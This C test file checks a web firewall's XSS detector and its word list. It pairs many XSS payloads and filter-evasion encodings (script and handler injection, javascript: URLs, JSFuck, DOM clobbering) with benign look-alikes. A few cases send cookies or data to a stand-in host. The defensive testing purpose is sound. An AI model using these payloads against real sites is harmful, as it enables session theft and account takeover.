/* The xss detector (lw_xss*.c) with its default word table
 * (conf/signatures/xss.words): class by class, attacks and the benign text
 * that looks like them, edge cases, and that an admin's extra words count. */
#include <stdlib.h>
#include <apr_strings.h>

#include "lw_test.h"
#include "lw_test_engine.h"
#include "lw_detect.h"

static const lw_words_t *words;

typedef struct {
    const char *value;
    int verdict;
    const char *why;            /* prefix of out.why; NULL: any */
} xcase_t;

static int run(const char *v, apr_size_t len, lw_detect_out_t *out)
{
    /* an exact-size heap copy: reading past len is a fault under ASan */
    char *copy = malloc(len ? len : 1);
    int rc;
    memcpy(copy, v, len);
    memset(out, 0, sizeof(*out));
    rc = lw_detect_xss(words, copy, len, out);
    free(copy);
    return rc;
}

static void check_cases(const xcase_t *c, int n)
{
    int i;
    for (i = 0; i < n; i++) {
        lw_detect_out_t out;
        apr_size_t len = strlen(c[i].value);
        int rc = run(c[i].value, len, &out);
        if (rc != c[i].verdict
            || (rc && c[i].why && strncmp(out.why, c[i].why,
                                          strlen(c[i].why)) != 0)
            || (rc && out.off + out.len > len)) {
            fprintf(stderr, "case \"%s\": got %d \"%s\", want %d \"%s\"\n",
                    c[i].value, rc, rc ? out.why : "", c[i].verdict,
                    c[i].why ? c[i].why : "");
            CHECK(0);
        }
        else
            CHECK(1);
    }
}

#define S LW_DETECT_STRONG
#define W LW_DETECT_WEAK
#define N LW_DETECT_NONE

/* Markup: elements that run code, event handlers of any name, script URLs
 * in any attribute, style with script, srcdoc, namespaced tags. */
static const xcase_t markup[] = {
    { "<script>x()</script>", S, "html:<script" },
    { "<SCRIPT SRC=//e.example/a.js>", S, "html:<SCRIPT" },
    { "</title><script>", S, "html:<script" },
    { "<x:script>y</x:script>", S, "html:<script" },
    { "<iframe src=//e.example>", S, "html:<iframe" },
    { "<embed src=a.swf>", S, "html:<embed" },
    { "<base href=//e.example/>", S, "html:<base" },
    { "<svg onload=f()>", S, "html:<svg onload" },
    { "<svg/onload=f()>", S, "html:<svg onload" },
    { "<img src=x onerror=f(1)>", S, "html:<img onerror" },
    { "<p\nonclick\n=\nf()>", S, "html:<p onclick" },
    { "<zz onnewevent=f()>", S, "html:<zz onnewevent" },
    { "<a href=\"javascript:f()\">x</a>", S, "url:javascript" },
    { "<a href=\" \tjava\tscript:f()\">", S, "url:javascript" },
    { "<a href=JAVA\nSCRIPT:f()>", S, "url:javascript" },
    { "<form action=vbscript:msgbox(1)>", S, "url:vbscript" },
    { "<a href=data:text/html;base64,PHNjcmlwdD4=>", S, "url:data" },
    { "<x attributeName=href to=javascript:f()>", S, "url:javascript" },
    { "<meta http-equiv=refresh content=\"0;url=javascript:f()\">", S,
      "url:javascript" },
    { "<div style=\"width:expression(f())\">", S, "html:style expression" },
    { "<div style=\"x:expr/**/ession(f())\">", S, "html:style expression" },
    { "<div style=\"background:url(\\6a avascript:f())\">", S,
      "html:style url" },
    { "<i srcdoc=\"<b>\">", S, "html:<i srcdoc" },
    { "<x foo='><img src=x onerror=f()//'>", S, "html:<img onerror" },
    { "<s c r i p t>x</s c r i p t>", S, "html:<script (spaced)" },
    { "<f o r m action=x>", S, "html:<form (spaced)" },
    { "<x: script>", S, "html:<script (spaced)" },
    { "<svg onload", S, "html:<svg onload" },
    { "<svg>", S, "html:<svg" },
    { "\\u003cscript src=//e.example/x.js\\u003e", S, "html:<script" },
    { "\\u003cscript\\u003e", S, "html:<script" },
    { "{\"a\":\"\\x3Ciframe src=//e.example\\x3E\"}", S, "html:<iframe" },
    { "<svg:mask id=m>", S, "html:<mask" },
    { "<?import namespace=t implementation=#default#time2>", S,
      "html:<?import" },
    { "<?xml:namespace prefix=t>", S, "html:<?xml" },
    { "<!--[if gte IE 4]><b>", S, "html:<!--[if" },
    { "+ADw-p+AD4-hi", S, "html:utf-7 <p" },
    { "<form action=//e.example/login>", S, "html:<form" },
    { "<b style=\"color:red\">", W, "html:<b style" },
    { "<p datasrc=#x>", S, "html:<p datasrc" },
    { "<a xlink:href=\"?\">", S, "html:<a xlink:href" },
    { "<button formaction=//e.example>", S, "html:<button formaction" },
    { "\" formaction=//e.example x=\"", S, "html:formaction=" },
    { "<s/c/r/i/p/t>", S, "html:<script (spaced)" },
    { "<b-o-d-y onload=x>", S, "html:<body (spaced)" },
    { "<![CDATA[<]]>script", S, "html:<![CDATA[" },
    { "</textarea>", W, "html:</textarea" },
    /* an image, media or form element runs nothing without an attribute
     * that is judged on its own (onerror, a script URL): no finding, as
     * for the images of an editor's post or a search for an element */
    { "<input value=x>", N, NULL },
    { "<img src=a.png>", N, NULL },
    { "<img src=\"https://example.com/a.jpg\" alt=\"\" class=\"wp-image-4\"/>", N, NULL },
    { "<video src=a.mp4 controls></video>", N, NULL },
    { "<title>x</title>", N, NULL },
    { "<video><source onerror=f(1)>", S, "html:<source onerror" },
    { "<img src=x:y onerror=f(1)>", S, "html:<img onerror" },
};

/* Rich text and searches for markup: what a browser does with the bytes.
 * A tag without attributes followed by prose is a name in a sentence; an
 * editor's document of well-formed blocks embeds frames; code anywhere
 * (script, handlers, script URLs, srcdoc) stays found, padded or wrapped
 * in prose or markup. */
static const xcase_t richtext[] = {
    { "<script> async vs defer", N, NULL },
    { "<iframe> responsive", N, NULL },
    { "<iframe>+responsive&client=firefox-b-d", N, NULL },
    { "https://e.example/forums/search/<script> async vs defer/?msclkid=2d",
      N, NULL },
    { "<img> alt text", N, NULL },
    { "<select> onchange", N, NULL },
    { "<input type=\"date\">", N, NULL },
    { "<svg> icons in css.", N, NULL },
    { "<script>", S, "html:<script" },
    { "<script>alert(1)", S, "html:<script" },
    { "<script> x=1", S, "html:<script" },
    { "<script>\nnew Image().src='//e.example/'", S, "html:<script" },
    { "<script> async vs defer</script>", S, "html:<script" },
    { "<iframe> responsive <img src=x onerror=f(1)>", S, "html:<img onerror" },
    { "<script> async vs defer <svg onload=f()>", S, "html:<svg onload" },
    { "<!-- wp:html -->\n<iframe src=\"https://www.google.com/maps/embed?pb=!1m18\" width=\"600\" style=\"border:0;\" allowfullscreen=\"\"></iframe>\n<!-- /wp:html -->\n\n<!-- wp:paragraph -->\n<p>Hi</p>\n<!-- /wp:paragraph -->",
      N, NULL },
    { "<figure class=\"wp-block-embed\"><div class=\"wp-block-embed__wrapper\"><iframe src=\"https://www.youtube.com/embed/abc\"></iframe></div></figure>",
      N, NULL },
    { "<pre class=\"wp-block-code\"><code>const el = document.getElementById(\"app\");</code></pre>",
      N, NULL },
    { "<p style=\"color:red\">a</p><p>b</p>", N, NULL },
    { "<iframe src=https://e.example/login>", S, "html:<iframe" },
    { "<p>a</p><iframe src=https://e.example/login>", S, "html:<iframe" },
    { "<p>a</p><p>b</p><script>f()</script>", S, "html:<script" },
    { "<p>a</p><p>b</p><iframe src=javascript:f()></iframe>", S,
      "url:javascript" },
    { "<p>a</p><p>b</p><iframe srcdoc=\"<b>x</b>\"></iframe>", S,
      "html:<iframe srcdoc" },
    { "<p>a</p><p>b</p><iframe src=https://e.example onload=f()>", S,
      "html:<iframe onload" },
    { "<p>a</p><p>b</p><img src=x onerror=f(1)>", S, "html:<img onerror" },
    { "<p>a</p><p>b</p><frame src=vbscript:msgbox(1)>", S, "url:vbscript" },
    /* entities decoded before the tokenizer: "src=j&Tab;a&Tab;v..." */
    { "<iframe src=j\ta\tv\ta\ts\tc\tr\ti\tp\tt\t:f(1)></iframe>", S,
      "url:javascript" },
    { "<a href=java\nscript\n:f()>", S, "url:javascript" },
    { "javascript\t:f()", S, "url:javascript" },
    /* a call after '=' with text after it: a URL's parameter as much as
     * an assignment */
    { "wd=alert()+in+javascript&rsv_spt=1", W, "js:call alert" },
    { "x=alert(1)", S, "js:call alert" },
    { "x=alert(y)", S, "js:call alert" },
};

/* Values that break out of an attribute or of a script string. */
static const xcase_t breakout[] = {
    { "\"><svg onload=f()>", S, "html:<svg onload" },
    { "\" onmouseover=\"f()", S, "html:onmouseover=" },
    { "' autofocus onfocus=x '", S, "html:onfocus=" },
    { "\"onbrandnew=f()", S, "html:onbrandnew=" },
    { "\";alert(1)//", S, "js:call alert" },
    { "'-alert(x)-'", S, "js:call alert" },
    { "</script><script>x</script>", S, "html:<script" },
};

/* Script: calls of sinks, templates, computed access, encodings. */
static const xcase_t script[] = {
    { "alert(1)", S, "js:call alert" },
    { "alert()", S, "js:call alert" },
    { "alert(xss)", S, "js:call alert" },
    { "prompt(document.domain)", S, "js:call prompt" },
    { "alert /* c */ (1)", S, "js:call alert" },
    { "alert?.(1)", S, "js:call alert" },
    { "al\\u0065rt(1)", S, "js:call alert" },
    { "\\u{61}lert(1)", S, "js:call alert" },
    { "alert`1`", S, "js:tpl alert" },
    { "[].sort.call`${alert}1`", S, "js:tpl call" },
    { "Function`a${1}`", S, "js:tpl function" },
    { "Function('f()')()", S, "js:call function" },
    { "setTimeout('f()',1)", S, "js:call settimeout" },
    { "import('//e.example/x.js')", S, "js:call import" },
    { "eval(atob('eA=='))", S, "js:call eval" },
    { "(alert)(1)", S, "js:ref alert" },
    { "Reflect.apply(alert,0,[1])", S, "js:call apply" },
    { "[1].some(alert,0)", S, "js:ref alert" },
    { "alert.call(null,1)", S, "js:alert.call" },
    { "eval(a+b)", S, "js:call eval" },
    { "setTimeout(x+y)", S, "js:call settimeout" },
    { "[1].find(alert)", S, "js:ref alert" },
    { "window['al'+'ert'](1)", S, "js:index window" },
    { "(document)[\"cookie\"]", S, "js:index document" },
    { "top[8680439..toString(30)](1)", S, "js:index top" },
    { "x['constructor']", S, "js:index constructor" },
    { "c=document.cookie", S, "js:document.cookie" },
    { "u=top.location", S, "js:top.location" },
    { "location='//e.example'", S, "js:assign location" },
    { "y.innerHTML='<b>'", S, "js:.innerhtml" },
    { "location='//e.example'+x", S, "js:assign location" },
    { "onerror=alert;throw 1", S, "html:onerror=" },
    { "x onfocus=alert(1) autofocus", S, "html:onfocus=" },
    { "x/onerror=f(1)", S, "html:onerror=" },
    { "a=alert,a(1)", S, "js:ref alert" },
    { "(![]+[])", S, "js:jsfuck" },
    { "!![]+!![]", S, "js:jsfuck" },
    { "x.innerHTML", S, "js:.innerhtml" },
    { "this.parentNode.remove()", S, "js:.parentnode" },
    { "http://e.example/javascript:alert(1)", S, "url:javascript" },
    { "/x/javascript:void(alert(1))", S, "url:javascript" },
    { "+ADw-script+AD4-x()+ADw-/script+AD4-", S, "html:utf-7 <script" },
    { "@import 'http://e.example/x.css';", S, "css:@import" },
    { "\xbcscript\xbe" "alert(1)\xbc/script\xbe", S, "html:us-ascii <script" },
    { "\xc2\xbcscript\xc2\xbe", S, "html:us-ascii <script" },
    { "x{-moz-binding: url(//e.example/x.xml#y)}", S, "css:binding" },
    { "x{behavior:url(x.htc)}", S, "css:behavior" },
    { "data:image/svg+xml;base64,PHN2Zz4=", S, "url:data" },
    { "data:image/png;base64,iVBORw0KGgo=", W, "url:data" },
    { "x onbrandnew=y", W, "html:onbrandnew=" },
    { "document.cookie explained", N, NULL },
    { "el.innerHTML explained", N, NULL },
    { "window.open popup blocked", N, NULL },
    { "(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]", S, "js:jsfuck" },
    { "javascript:f()", S, "url:javascript" },
    { "jaVa\tscript:f()", S, "url:javascript" },
    { "data:text/html,<b>", S, "url:data" },
};

/* The JavaScript a browser runs without the usual shape, class by class:
 * calls without parentheses, computed access, sinks reached through
 * decoders, JSFuck text, escaped names, split schemes, XML contexts, any
 * on* handler. Each class has its benign look-alikes next to it. */
static const xcase_t js_classes[] = {
    /* calls without parentheses: the error handler and throw, coercion
     * hooks, a sink stored and called */
    { "{onerror=prompt}throw 9", S, "html:onerror=" },
    { "'-{onerror=alert}throw 1-'", S, "html:onerror=" },
    { "window.onerror=eval;throw\"=alert\\x281\\x29\"", S, "html:onerror=" },
    { "valueOf=alert;window+''", S, "js:ref alert" },
    { "toString=prompt,self+1", S, "js:ref prompt" },
    { "q=confirm;q`1`", S, "js:ref confirm" },
    { "Array.from([1],alert)", S, "js:ref alert" },
    { "window.onload = function() { init(); }", N, NULL },
    { "q=confirm;done", W, "js:ref confirm" },
    /* '<' escaped in a string literal: hex, code point, octal */
    { "'\\74img src=x onerror=f(1)\\76'", S, "html:<img onerror" },
    { "\"\\074svg onload=f()\\076\"", S, "html:<svg onload" },
    { "'\\u{3c}script\\u{3e}f()'", S, "html:<script" },
    { "C:\\74\\data\\script.txt", N, NULL },
    /* javascript:void(0) runs nothing; more after it does */
    { "href=\"javascript:void(0)\" vs href=\"#\"", N, NULL },
    { "javascript:void 0", N, NULL },
    { "javascript:void(0);alert(1)", S, "url:javascript" },
    { "<a href=\"javascript:void(0)\" onclick=\"f(1)\">", S, "html:<a onclick" },
    /* a word after a call on its line: no statement */
    { "eval(\"2+2\") returns 4", N, NULL },
    { "import('lodash') vs require('lodash')", N, NULL },
    { "eval(x) in a loop", N, NULL },
    { "alert(1) in x", S, "js:call alert" },
    /* a frame's style is the embed's border */
    { "<iframe style=\"border:0\" src=\"https://e.example/embed/1\" "
      "allowfullscreen></iframe>", N, NULL },
    { "<iframe style=\"border:0\" src=\"https://e.example/login\">", S,
      "html:<iframe" },
    /* call/apply/bind relay a call: a word handed over is no script */
    { "Object.prototype.toString.call(value)", N, NULL },
    { "fn.apply(ctx)", N, NULL },
    { "alert.call(null,1)", S, "js:alert.call" },
    { "x.call(alert)", S, "js:call call" },
    /* optional chaining and arrays of sinks */
    { "alert?.call?.(null,1)", S, "js:alert.call" },
    { "[eval][0]('x')", S, "js:ref eval" },
    { "[alert] list", N, NULL },
    /* computed access: a name built, escaped or called; a literal name of
     * a variable is no code */
    { "[]['constructor']['constructor']('return this')()", S,
      "js:index constructor" },
    { "''['sub']['constructor']`x```", S, "js:index constructor" },
    { "(0)['constructor']", S, "js:index constructor" },
    { "self[`ev`+`al`]('x')", S, "js:index self" },
    { "parent['\\x61lert'](1)", S, "js:index parent" },
    { "top['news'](1)", S, "js:index top" },
    { "window['dataLayer'] = window['dataLayer'] || []", N, NULL },
    { "top['news']", N, NULL },
    { "this['sort'] by date", N, NULL },
    /* an array of strings after ':' or ',' is a value, not an index */
    { "{\"status\":{\"$in\":[\"open\",\"paid\"]}}", N, NULL },
    { "{\"a\":1, \"b\": [\"constructor\", \"alert\"]}", N, NULL },
    { "x=1,[]['constructor']['constructor']('alert(1)')()", S,
      "js:index constructor" },
    /* decoders: no sink themselves, script-like as an argument */
    { "setInterval(unescape('%61lert(1)'))", S, "js:call setinterval" },
    { "eval(decodeURIComponent(location.hash))", S, "js:call eval" },
    { "location=atob('amF2YXNjcmlwdDph')", S, "js:assign location" },
    { "a.href=unescape('%6a')", S, "js:assign href" },
    { "location=window.name", S, "js:assign location" },
    { "location=paris&top=10", N, NULL },
    { "How to decode base64 with atob()", N, NULL },
    { "atob('aGk=') returns hi", N, NULL },
    /* JSFuck with the query's '+' read as a space */
    { "(+[![]]+[][(![]+[])[+[]]])[+!+[]+[+[]]]", S, "js:jsfuck" },
    { "( [![]] [][(![] [])[ []]])[ ! [] [ []]]", S, "js:jsfuck" },
    { "!![] and !!\"\" differences", N, NULL },
    { "![]() ![]() ![]() ![]()", N, NULL },
    { "[!] [+] (!) important", N, NULL },
    /* a scheme's ':' escaped in a script or JSON string */
    { "{\"u\":\"javascript\\u003aalert(1)\"}", S, "url:javascript" },
    { "'javascript\\x3aalert(1)'", S, "url:javascript" },
    { "\"javascript\\u{3a}f()\"", S, "url:javascript" },
    { "javascript\\u003a the colon", N, NULL },
    /* a handler with script for its value, whatever its name; JSX's
     * braces around a function define it and call nothing */
    { "x/onfoo=top.alert(1)", S, "html:onfoo=" },
    { "onsale=true", N, NULL },
    { "<button onClick={() => setCount(count + 1)}>", N, NULL },
    { "<input onChange={handleChange} />", N, NULL },
    { "<button onClick={()=>alert(1)}>", S, "js:call alert" },
    { "<img src=x onerror={alert(1)}>", S, "html:<img onerror" },
    /* prose around a sink's call, and keywords before it */
    { "why does alert(1) not show", N, NULL },
    { "void alert(1)", S, "js:call alert" },
    { "return eval(x)", S, "js:call eval" },
    { "x;\nalert(1)", S, "js:call alert" },
    { "window.location.href vs window.location.replace", N, NULL },
    { "u=window.location.href", S, "js:window.location" },
    /* frames: an embed's attributes make a bare frame no finding */
    { "<iframe width=\"560\" src=\"https://www.youtube.com/embed/x\" "
      "allowfullscreen></iframe>", N, NULL },
    { "<iframe src=\"https://player.vimeo.com/video/1\" "
      "allow=\"autoplay\"></iframe>", N, NULL },
    { "<iframe src=https://e.example/login width=100%>", S, "html:<iframe" },
    { "<iframe src=javascript:f() allowfullscreen>", S, "url:javascript" },
    { "<iframe allowfullscreen onload=f()>", S, "html:<iframe onload" },
    /* loaders: a request to another origin or with a string built at run
     * time is an attacker's; a fixed path of the site's own is code */
    { "fetch('//e.example',{method:'POST',body:x})", S, "js:call fetch" },
    { "fetch(\"https://e.example/\")", S, "js:call fetch" },
    { "fetch('/log?c='+document.cookie)", S, NULL },
    { "fetch(`/log?${x}`)", S, "js:call fetch" },
    { "fetch(\"\\\\e.example\")", S, "js:call fetch" },
    { "$.getScript('//e.example/x.js')", S, "js:call getscript" },
    { "jQuery.globalEval('f()')", S, "js:call globaleval" },
    { "fetch('/api/items').then(r => r.json())", N, NULL },
    { "await fetch(`/api/items`)", N, NULL },
    { "$.getScript('plugin.js')", N, NULL },
    /* DOM clobbering: an element named after what script reads */
    { "<img name=getElementById>", S, "html:<img name=getElementById" },
    { "<p><input name=attributes></p>", S, "html:<input name=attr" },
    { "<a id=\"__proto__\" href=#>", S, "html:<a id=__proto__" },
    { "<input type=\"text\" name=\"q\">", N, NULL },
    { "<input name=\"domain\"><textarea name=body></textarea>", N, NULL },
    { "<img id=\"logo\" name=\"logo\" src=\"logo.png\">", N, NULL },
    { "<h2 id=\"constructors\">Constructors</h2>", N, NULL },
    { "name=cookie", N, NULL },
    { "fetch('", S, "js:call fetch" },
    { "fetch('//", S, "js:call fetch" },
    { "fetch('/a", S, "js:call fetch" },
};

/* Benign text that looks a little like markup or script. */
static const xcase_t benign[] = {
    { "", N, NULL },
    { "<", N, NULL },
    { "a", N, NULL },
    { "hello world", N, NULL },
    { "<b>bold</b>", N, NULL },
    { "a < b > c", N, NULL },
    { "x<y", N, NULL },
    { "I <3 you", N, NULL },
    { "->", N, NULL },
    { "<john@example.com>", N, NULL },
    { "[link](https://example.com)", N, NULL },
    { "if (a < b) return a;", N, NULL },
    { "function of x", N, NULL },
    { "function() { return 1; }", N, NULL },
    { "f(x) = x^2", N, NULL },
    { "alert me when the price drops", N, NULL },
    { "price alert (daily)", N, NULL },
    { "confirm(order) please", N, NULL },
    { "what is eval() in python", N, NULL },
    { "document title", N, NULL },
    { "$(document).ready", N, NULL },
    { "JavaScript: the good parts", N, NULL },
    { "/docs/javascript:intro", N, NULL },
    { "https://example.com/javascript/x.html", N, NULL },
    { "top[5]", N, NULL },
    { "location=paris", N, NULL },
    { "only=true", N, NULL },
    { "onion=1", N, NULL },
    /* Cloudflare Image Resizing's option list: onerror=redirect is an
     * option of the URL, no attribute of a tag */
    { "/cdn-cgi/image/width=800,onerror=redirect,quality=75/a.jpg", W, "html:onerror=" },
    { "format=auto,onerror=redirect", W, "html:onerror=" },
    { "expression (math)", N, NULL },
    { "regular expression (regex)", N, NULL },
    { "data: 2024", N, NULL },
    { "filter[status]=active", N, NULL },
    { "<!-- comment -->", N, NULL },
    { "<!DOCTYPE html>", N, NULL },
    { "<?php echo 1; ?>", N, NULL },
    { "a+ADw-b", N, NULL },
    { "![image](https://example.com/a.png)", N, NULL },
    { "user@example.com", N, NULL },
    { "M\xc3\xbcnchen M\xc3\xbcscript", N, NULL },
    { "@importance", N, NULL },
    { "C++ and C#", N, NULL },
    { "data:some text", N, NULL },
    { "<a b c d>", N, NULL },
    { "<a, b, c, d>", N, NULL },
    { "<s c r i p tx", N, NULL },
    { "innerHTML vs textContent", N, NULL },
    { "/docs/javascript:intro", N, NULL },
    { "![](a.png)", N, NULL },
    { "<b onion", N, NULL },
    { "\\u(8229)", N, NULL },
    { "\\u003c3 \\x3cb\\x3e", N, NULL },
    { "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
      N, NULL },
};

/* The value is not NUL-terminated and only len bytes count. */
static void test_length(void)
{
    lw_detect_out_t out;
    const char *v = "alert(x)";
    CHECK(run(v, 7, &out) == N);          /* "alert(x" */
    CHECK(run(v, 8, &out) == S);
    CHECK(run("<script>", 7, &out) == S); /* "<script" at the end */
    CHECK(run("<scriptx", 7, &out) == S);
    CHECK(run("javascript:x", 11, &out) == N);
}

/* Long and odd input: padding, unterminated quotes and comments, deep
 * nesting, every byte value; the verdict must still come (and fast: the
 * benchmark measures it, scripts/bench/bench-detect). */
static void test_edges(apr_pool_t *p)
{
    lw_detect_out_t out;
    apr_size_t n = 8192, i;
    char *b = apr_palloc(p, n);
    static const char *const units[] = {
        "<x onx=", "<a b=\"", "<a b='<a b=\"", "alert/*", "(((((", "[[[[",
        "<!--", "\\u", "javascript", "<x style='/*", "'\"`", "x.", "top[",
        "<x a='<y b=\"<z c=`"
    };
    unsigned u;
    for (u = 0; u < sizeof(units) / sizeof(units[0]); u++) {
        apr_size_t ul = strlen(units[u]);
        int rc;
        for (i = 0; i < n; i++)
            b[i] = units[u][i % ul];
        rc = run(b, n, &out);
        CHECK(rc >= N && rc <= S);
        CHECK(rc == N || out.off + out.len <= n);
    }
    /* an attack after 8 KiB of padding of every kind is still found */
    for (i = 0; i + 20 < n; i++)
        b[i] = "a <( [:= '\"`\t"[i % 13];
    memcpy(b + n - 20, "<svg onload=f()>    ", 20);
    CHECK(run(b, n, &out) == S && strncmp(out.why, "html:<svg", 9) == 0);
    /* every byte value, once */
    for (i = 0; i < 256; i++)
        b[i] = (char)i;
    CHECK(run(b, 256, &out) <= S);
    /* unterminated everything */
    CHECK(run("<img src=\"x onerror=f()", 23, &out) == S);
    CHECK(run("<a href='javascript:f()", 23, &out) == S);
    CHECK(run("alert(/*", 8, &out) == N);
    CHECK(run("<", 1, &out) == N);
    CHECK(run("\\u00", 4, &out) == N);
}

/* The words file loads; an admin's extra words count without a rebuild. */
static void test_words(apr_pool_t *p)
{
    lw_words_t *w = lw_words_create(p, lw_xss_sections, lw_xss_nsections);
    char *err = NULL;
    lw_detect_out_t out;
    const char *extra = "[sink]\nmyalert\n[handler]\nonmadeup\n";
    const lw_words_t *saved = words;
    CHECK(words != NULL && lw_words_count(words) > 200);
    CHECK(lw_words_get(words, "ONLOAD", 6) != 0);
    CHECK(lw_words_get(words, "one", 3) == 0);
    CHECK(lw_words_section(words, "sink") >= 0);
    CHECK(run("myalert(1)", 10, &out) == N);
    CHECK(run("x onmadeup=y", 12, &out) == W);
    CHECK(w && lw_words_add_text(w, extra, strlen(extra), "extra.xss.words",
                                 &err) == APR_SUCCESS);
    words = w;
    CHECK(run("myalert(1)", 10, &out) == S);
    CHECK(run("x onmadeup=y", 12, &out) == S);
    words = saved;
    /* a section the detector does not know is an error naming the line */
    w = lw_words_create(p, lw_xss_sections, lw_xss_nsections);
    CHECK(lw_words_add_text(w, "[sinks]\nx\n", 10, "bad.xss.words", &err)
          != APR_SUCCESS && err && strstr(err, "bad.xss.words:1") != NULL);
}

/* Whole requests through the shipped signatures (rules 200xxx and the
 * detector together): what the modern benign traffic sends is not
 * flagged, the same places with code in them are. */
static void test_requests(apr_pool_t *p)
{
    static const char editor[] =
        "{\"content\":\"<!-- wp:html -->\\n<iframe src=\\\"https://www."
        "google.com/maps/embed?pb=!1m18\\\" style=\\\"border:0;\\\" "
        "allowfullscreen></iframe>\\n<!-- /wp:html -->\\n<!-- wp:image -->"
        "\\n<figure class=\\\"wp-block-image\\\"><img src=\\\"https://"
        "e.example/a.jpg\\\" alt=\\\"\\\"/></figure>\\n<!-- /wp:image -->"
        "\\n<!-- wp:code -->\\n<pre class=\\\"wp-block-code\\\"><code>"
        "const el = document.getElementById(&quot;app&quot;);</code></pre>"
        "\\n<!-- /wp:code -->%s\"}";
    static const struct {
        const char *uri, *referer, *cookie, *body;
        int flagged;
    } cases[] = {
        { "/?s=%3Cscript%3E+async+vs+defer&post_type=post", 0, 0, 0, 0 },
        { "/?s=%3Cimg%3E+alt+text", 0, 0, 0, 0 },
        { "/?s=%3Cselect%3E+onchange", 0, 0, 0, 0 },
        { "/search/node?keys=%3Cinput+type%3D%22date%22%3E", 0, 0, 0, 0 },
        { "/forums/search/document.getElementById/", 0, 0, 0, 0 },
        { "/", "https://www.google.de/search?q=%3Ciframe%3E+responsive"
          "&client=firefox-b-d", 0, 0, 0 },
        { "/", "https://www.example.com/forums/search/%3Cscript%3E%20async"
          "%20vs%20defer/?msclkid=2dfc0867", 0, 0, 0 },
        { "/", "https://www.baidu.com/s?wd=alert%28%29+in+javascript"
          "&rsv_spt=1&ie=utf-8", 0, 0, 0 },
        { "/", 0, "last_search=%3Cinput%20type%3D%22date%22%3E; a=1", 0, 0 },
        { "/wp-json/wp/v2/posts/1", 0, 0, "", 0 },
        { "/?s=%3Cscript%3Ealert(1)%3C/script%3E", 0, 0, 0, 1 },
        { "/?s=%3Cscript%3E+async+vs+defer+%3Csvg/onload%3Dalert(1)%3E",
          0, 0, 0, 1 },
        { "/", "https://e.example/?q=%3Ciframe%20src%3Djavascript:alert(1)%3E",
          0, 0, 1 },
        { "/", 0, "last_search=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", 0,
          1 },
        { "/wp-json/wp/v2/posts/1", 0, 0,
          "<iframe srcdoc=\\\"<script>alert(1)</script>\\\"></iframe>", 1 },
        { "/wp-json/wp/v2/posts/1", 0, 0,
          "<p>x</p><img src=x onerror=alert(document.domain)>", 1 },
    };
    lw_engine_t *e = lw_test_shipped_engine(p);
    size_t i;

    CHECK(e != NULL);
    if (!e)
        return;
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        lw_request_t req;
        lw_header_t h[2];
        lw_result_t res;
        int nh = 0, got;

        memset(&req, 0, sizeof(req));
        req.method = cases[i].body ? "POST" : "GET";
        req.uri = cases[i].uri;
        req.protocol = "HTTP/1.1";
        if (cases[i].referer) {
            h[nh].name = "Referer";
            h[nh++].value = cases[i].referer;
        }
        if (cases[i].cookie) {
            h[nh].name = "Cookie";
            h[nh++].value = cases[i].cookie;
        }
        req.headers = h;
        req.nheaders = nh;
        if (cases[i].body) {
            req.body = apr_psprintf(p, editor, cases[i].body);
            req.body_len = strlen(req.body);
            req.body_type = "application/json";
        }
        got = lw_classify(e, &req, NULL, p, &res);
        CHECK(got == cases[i].flagged);
        if (got != cases[i].flagged)
            fprintf(stderr, "  request %d (%s): score %d, %d hits\n", (int)i,
                    cases[i].uri, res.score, res.nhits);
    }
}

int main(void)
{
    lw_words_t *w;
    char *err = NULL;
    const char *path;
    LW_TEST_BEGIN(p);
    path = apr_pstrcat(p, lw_test_srcdir(), "/conf/signatures/xss.words",
                       NULL);
    w = lw_words_create(p, lw_xss_sections, lw_xss_nsections);
    if (!w || lw_words_add_file(w, path, &err) != APR_SUCCESS) {
        fprintf(stderr, "cannot load %s: %s\n", path, err ? err : "?");
        return 1;
    }
    words = w;
    check_cases(markup, sizeof(markup) / sizeof(markup[0]));
    check_cases(richtext, sizeof(richtext) / sizeof(richtext[0]));
    check_cases(breakout, sizeof(breakout) / sizeof(breakout[0]));
    check_cases(script, sizeof(script) / sizeof(script[0]));
    check_cases(benign, sizeof(benign) / sizeof(benign[0]));
    check_cases(js_classes, sizeof(js_classes) / sizeof(js_classes[0]));
    test_length();
    test_edges(p);
    test_words(p);
    test_requests(p);
    LW_TEST_END();
}
